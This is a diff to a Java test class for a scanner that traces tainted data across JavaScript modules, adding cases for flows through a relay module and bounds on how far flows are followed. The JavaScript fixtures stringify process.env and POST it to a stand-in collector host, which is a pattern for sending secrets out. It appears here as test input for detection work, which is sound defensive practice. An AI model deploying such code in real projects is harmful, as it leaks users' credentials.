@@ -127,15 +127,52 @@ class ScriptTaintAcrossModulesTest {
         assertEquals(List.of(), flows(scan));
     }
 
+    // caller → relay → sender: the relay hands its parameter to a function of a third module, which posts it
     @Test
-    void onlyOneCallDeepAndASelfImportIsNotFollowed(@TempDir Path dir) {
+    void aFlowThroughARelayModuleReachesTheSendingModulesSink(@TempDir Path dir) {
+        Scan scan = Scan.files(dir, Map.of(
+                "a.js", "const b = require('./b');\n"
+                        + "b.relay(JSON.stringify(process.env));\n",
+                "b.js", "const c = require('./lib/c');\n"
+                        + "function relay(d) { c.post('x', d); }\n"
+                        + "module.exports = { relay };\n",
+                "lib/c.js", "async function post(tag, data) {\n"
+                        + "  await fetch('https://collector.invalid/c', {method: 'POST', body: data});\n"
+                        + "}\n"
+                        + "module.exports = { post };\n"));
+        assertEquals(List.of("env@a.js:2->network:fetch@lib/c.js:2"), flows(scan));
+    }
+
+    // Look-alikes of the relay: it passes something else than the caller's value on, or the sending module's tainted
+    // parameter is not the one the relay fills.
+    @Test
+    void aRelayThatDoesNotPassTheValueOnIsNoFlow(@TempDir Path dir) {
         Scan scan = Scan.files(dir, Map.of(
                 "a.js", "const b = require('./b');\n"
                         + "b.relay(JSON.stringify(process.env));\n",
                 "b.js", "const c = require('./c');\n"
-                        + "function relay(d) { c.post(d); }\n"
+                        + "function relay(d) { console.log(d.length); c.post(d, 'ping'); }\n"
                         + "module.exports = { relay };\n",
-                "c.js", "const self = require('./c');\n"
+                "c.js", "async function post(tag, data) {\n"
+                        + "  await fetch('https://collector.invalid/c', {method: 'POST', body: data});\n"
+                        + "}\n"
+                        + "module.exports = { post };\n"));
+        assertEquals(List.of(), flows(scan));
+    }
+
+    // Bounded: two relays (a → b → c → d) are not followed, nor is a module's import of itself.
+    @Test
+    void twoRelaysAndASelfImportAreNotFollowed(@TempDir Path dir) {
+        Scan scan = Scan.files(dir, Map.of(
+                "a.js", "const b = require('./b');\n"
+                        + "b.relay(JSON.stringify(process.env));\n",
+                "b.js", "const c = require('./c');\n"
+                        + "function relay(d) { c.again(d); }\n"
+                        + "module.exports = { relay };\n",
+                "c.js", "const d = require('./d');\n"
+                        + "function again(x) { d.post(x); }\n"
+                        + "module.exports = { again };\n",
+                "d.js", "const self = require('./d');\n"
                         + "self.post(process.env);\n" + POST_MODULE));
         assertEquals(List.of(), flows(scan));
     }
